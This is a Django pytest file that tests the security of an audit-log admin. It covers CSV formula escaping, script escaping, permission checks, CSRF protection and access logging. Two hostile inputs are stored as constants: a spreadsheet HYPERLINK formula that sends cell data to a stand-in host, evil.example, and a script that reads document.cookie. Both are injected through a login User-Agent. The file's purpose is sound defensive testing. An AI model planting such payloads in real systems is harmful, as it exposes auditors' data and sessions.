"""Somebody outside tries to reach the auditor through the log; somebody inside, to read or take more than is theirs."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone

from accounts.models import User
from auditlog.models import Event, SavedSearch

pytestmark = pytest.mark.django_db
PASSWORD = "correct horse battery staple"  # pragma: allowlist secret
LIST = "/admin/bulwark_auditlog/event/"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"click")'
SCRIPT = "<script>alert(document.cookie)</script>"


def staff(name: str, *codenames: str) -> Client:
    user = User.objects.create_user(f"{name}@bulwark.example", PASSWORD, is_staff=True)
    user.email_verified_at = timezone.now()
    user.save()
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="bulwark_auditlog", codename__in=codenames)
    )
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def erin() -> Client:
    return staff("erin", "view_event", "export_event")


def knock(agent: str) -> None:
    """Fail to log in, as anybody on the internet can, and leave words for whoever reads the log."""
    body = {"email": "nobody@bulwark.example", "password": "wrong", "transport": "body"}  # pragma: allowlist secret
    Client().post("/api/v1/auth/login", body, "application/json", headers={"User-Agent": agent}, secure=True)


def rows(response: Any) -> Iterator[list[str]]:
    return csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))


def test_a_stranger_plants_a_formula_in_the_auditors_spreadsheet(erin: Client) -> None:
    knock(FORMULA)
    exported = list(rows(erin.get(f"{LIST}export/?format=csv&type=accounts.login_failed", secure=True)))
    cells = [cell for row in exported for cell in row if "HYPERLINK" in cell]
    assert cells == [f"'{FORMULA}"]


def test_a_stranger_plants_a_script_in_the_auditors_browser(erin: Client) -> None:
    knock(SCRIPT)
    event = Event.objects.get(type="accounts.login_failed")
    for page in ("", f"{event.uuid}/change/", "dashboard/", "timeline/?target=x", f"timeline/?actor={SCRIPT}"):
        response = erin.get(LIST + page, secure=True)
        assert response.status_code == 200
        assert SCRIPT not in response.content.decode()


def test_staff_of_another_desk_read_and_take_nothing() -> None:
    knock("x")
    clerk = staff("clerk")
    for page in ("", "export/", "dashboard/", "timeline/?actor=x"):
        assert clerk.get(LIST + page, secure=True).status_code == 403


def test_an_auditor_who_may_look_takes_no_copy_by_any_door() -> None:
    knock("x")
    viewer = staff("viewer", "view_event")
    assert viewer.get(LIST, secure=True).status_code == 200
    assert viewer.get(f"{LIST}export/?format=ndjson", secure=True).status_code == 403
    login = {"email": "viewer@bulwark.example", "password": PASSWORD, "transport": "body"}
    tokens = Client().post("/api/v1/auth/login", login, "application/json", secure=True).json()
    bearer = {"Authorization": f"Bearer {tokens['access']}"}
    assert Client().get("/api/v1/audit/events/", headers=bearer, secure=True).status_code == 403


def test_a_page_elsewhere_makes_the_auditor_save_a_search_under_a_trusted_name() -> None:
    erin = staff("erin", "view_event")
    strict = Client(enforce_csrf_checks=True)
    strict.cookies = erin.cookies
    assert strict.post(f"{LIST}searches/", {"name": "All clear", "query": "type=x"}, secure=True).status_code == 403
    assert not SavedSearch.objects.exists()


def test_whoever_looks_leaves_a_trace(erin: Client) -> None:
    knock("x")
    event = Event.objects.get(type="accounts.login_failed")
    erin.get(f"{LIST}{event.uuid}/change/", secure=True)
    list(rows(erin.get(f"{LIST}export/?format=csv", secure=True)))
    told = Event.objects.filter(type__in=["auditlog.event_viewed", "auditlog.events_exported"]).order_by("seq")
    assert [(found.type, found.actor_label) for found in told] == [
        ("auditlog.event_viewed", "erin@bulwark.example"),
        ("auditlog.events_exported", "erin@bulwark.example"),
    ]
